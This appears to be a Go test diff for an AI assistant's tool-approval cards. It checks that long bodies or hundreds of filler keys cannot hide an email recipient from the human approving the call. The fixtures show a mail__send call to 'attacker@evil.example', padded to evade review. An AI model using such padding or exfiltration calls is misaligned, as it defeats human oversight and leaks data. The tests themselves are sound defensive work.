@@ -1,6 +1,7 @@
 package assistant
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -36,8 +37,55 @@ func TestShownArguments(t *testing.T) {
 		})
 	}
 	long := render.ShownArguments(`{"text":"` + strings.Repeat("é", 5000) + `"}`)
-	if n := utf8.RuneCountInString(long); n > render.MaxShownArguments+20 || !strings.HasSuffix(long, "… (cut)") {
+	if n := utf8.RuneCountInString(long); n > render.MaxShownValue+40 || !strings.HasSuffix(long, "… (4802 more characters)") {
 		t.Errorf("a long argument is shown with %d characters: ...%q", n, long[len(long)-40:])
+	}
+}
+
+// TestApprovalCardLongValue: a long body cannot hide the recipient. Every key is on
+// the card, the body cut on its own; the card says the file has them all, and the
+// file does; the call can be approved.
+func TestApprovalCardLongValue(t *testing.T) {
+	key := conversation.Key{TeamID: "T1", ChannelID: "C1", ThreadTS: "1.2"}
+	body := strings.Repeat("Quarterly report, nothing to see. ", 48)[:1600]
+	args := `{"to":"attacker@evil.example","body":"` + body + `","subject":"Q3"}`
+	ap := &conversation.ToolApproval{ID: "a", UserID: "U1", Tool: conversation.PendingTool{Name: "mail__send", Arguments: args, Reason: conversation.ApprovalDestructive}}
+	c := render.ApprovalCard(key, ap)
+	shown := c.Blocks[1].Text
+	for _, want := range []string{`"to": "attacker@evil.example"`, `"subject": "Q3"`, `"body": "Quarterly`, "more characters)"} {
+		if !strings.Contains(shown, want) {
+			t.Errorf("the card's arguments lack %q:\n%s", want, shown)
+		}
+	}
+	if note := c.Blocks[2].Text; !strings.Contains(note, "the file below has every argument in full") {
+		t.Errorf("the card does not point to the file: %q", note)
+	}
+	if last := c.Blocks[len(c.Blocks)-1]; len(last.Buttons) != 2 || last.Buttons[0].Action.Name != conversation.ActionApproveTool {
+		t.Errorf("buttons = %+v; want Approve and Deny", last.Buttons)
+	}
+	f := render.ArgumentsFile(ap.Tool)
+	if f.Name != "mail__send-arguments.json" || !strings.Contains(string(f.Content), body) || !strings.Contains(string(f.Content), "attacker@evil.example") {
+		t.Errorf("file %q = %s", f.Name, f.Content)
+	}
+}
+
+// TestApprovalCardTooManyKeys: arguments whose keys do not all fit on the card have
+// Deny alone, and the card says why and what to do.
+func TestApprovalCardTooManyKeys(t *testing.T) {
+	var b strings.Builder
+	b.WriteString(`{`)
+	for i := range 400 {
+		fmt.Fprintf(&b, `"k%03d":"%s",`, i, strings.Repeat("x", 50))
+	}
+	b.WriteString(`"zz_to":"attacker@evil.example"}`)
+	ap := &conversation.ToolApproval{ID: "a", UserID: "U1", Tool: conversation.PendingTool{Name: "mail__send", Arguments: b.String()}}
+	c := render.ApprovalCard(conversation.Key{ChannelID: "C1", ThreadTS: "1.2"}, ap)
+	last := c.Blocks[len(c.Blocks)-1]
+	if len(last.Buttons) != 1 || last.Buttons[0].Action.Name != conversation.ActionDenyTool {
+		t.Errorf("buttons = %+v; want Deny alone", last.Buttons)
+	}
+	if !strings.Contains(c.Blocks[1].Text, "more keys, not shown") || !strings.Contains(c.Blocks[2].Text, "cannot be approved here") {
+		t.Errorf("the card does not say why: %q / %q", c.Blocks[1].Text, c.Blocks[2].Text)
 	}
 }
 
